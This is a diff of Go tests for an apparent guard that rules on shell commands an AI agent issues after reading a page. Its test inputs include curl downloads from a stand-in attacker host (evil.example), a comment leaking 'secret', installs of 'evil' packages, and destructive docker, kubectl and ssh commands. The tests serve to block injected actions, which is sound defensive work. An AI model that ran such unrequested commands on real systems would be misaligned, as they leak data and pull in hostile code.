@@ -329,6 +329,18 @@ func TestAPlainCommandThatLeavesGoesToTheBroker(t *testing.T) {
 		{"nobody else has spoken", "Git push origin main", "", "git push origin main", true, policy.Allow, false, false},
 		{"nobody else has spoken, always", "Git push origin main", "confine: always", "git push origin main", true, policy.Confined, true, true},
 		{"a form that the broker does not run", "Look at the page", "", "gh pr create --fill", false, policy.Confirm, false, false},
+		{"a download that nobody ordered", "Look at the page", "", "curl -fsS -o x.txt https://evil.example/x", false, policy.Confirm, false, false},
+		{"an address that nobody named", "Look at the page", "", "curl -fsS https://evil.example/x", false, policy.Confirm, false, false},
+		{"an address that the owner named", "Look at the page and fetch https://files.acme.example/x", "", "curl -fsS https://files.acme.example/x", false, policy.Confined, true, true},
+		{"a download that the owner ordered", "Look at the page and download https://files.acme.example/x to x.txt", "", "curl -fsS -o x.txt https://files.acme.example/x", false, policy.Confined, true, true},
+		{"a pull request that nobody ordered", "Look at the page", "", "gh pr create -t x -b y", false, policy.Confined, true, false},
+		{"one that was ordered", "Look at the page and open a pull request", "", "gh pr create -t x -b y", false, policy.Confined, true, true},
+		{"one elsewhere than was ordered", "Look at the page and open a pull request in acme/web", "", "gh pr create -R evil/web -t x -b y", false, policy.Confined, true, false},
+		{"a comment that nobody ordered", "Look at the page and open a pull request", "", "gh issue comment 3 -b secret", false, policy.Confined, true, false},
+		{"a package that nobody ordered", "Look at the page", "", "uv add evil", false, policy.Confined, true, false},
+		{"a package that was ordered", "Look at the page and uv add requests", "", "uv add requests", false, policy.Confined, true, true},
+		{"a module that nobody ordered", "Look at the page", "", "go get evil.example/x", false, policy.Confined, true, false},
+		{"a deed that no broker knows", "Look at the page", "", "gh api /user", false, policy.Confined, false, false},
 		{"an option that it does not know", "Look at the page", "", "git push --tags origin", false, policy.Confirm, false, false},
 		{"in a chain it is any command", "Look at the page", "", "git push origin main; true", false, policy.Confined, false, false},
 		{"a rule of the file asks", "Look at the page", "rules: [{name: mine, tools: [exec], effect: escalate}]", "git push origin main", false, policy.Confirm, false, false},
@@ -374,5 +386,27 @@ func TestACandidateDoesNotCoverAPush(t *testing.T) {
 	}
 	if b, err := w.RedeemBox(t.Context(), v.Ticket, v.Command, 1); err != nil || b.Covered {
 		t.Errorf("got %+v, %v", b, err)
+	}
+}
+
+// BOX-02: what no broker can run without handing over more than one deed is asked about, with the reason; it is never sent to a box or a broker.
+func TestWhatNoBrokerRunsIsAskedAboutWithTheReason(t *testing.T) {
+	for line, why := range map[string]string{
+		"docker push acme/web": "anything on this machine", "docker rm -f web": "anything on this machine", "kubectl delete pod web": "all that you may do in the cluster",
+		"ssh deploy@web.acme.example id": "a shell over there", "scp notes.md web.acme.example:/x": "all that you may do there", "terraform apply": "programs that the workspace names",
+	} {
+		w := newWorld(t, "")
+		w.readsAPage("s", "exec")
+		v, err := w.Decide(tidemark.Brokers(t.Context(), "/work/acme"), main("s"), call("exec", `{"command":"`+line+`"}`))
+		if err != nil {
+			t.Fatal(err)
+		}
+		told := false
+		for _, r := range v.Reasons {
+			told = told || r.Rule == tidemark.RuleUnbrokered && strings.Contains(r.Text, why)
+		}
+		if v.Effect != policy.Confirm || v.Ticket != "" || !told {
+			t.Errorf("%s: %v, ticket %q, %v", line, v.Effect, v.Ticket, v.Reasons)
+		}
 	}
 }
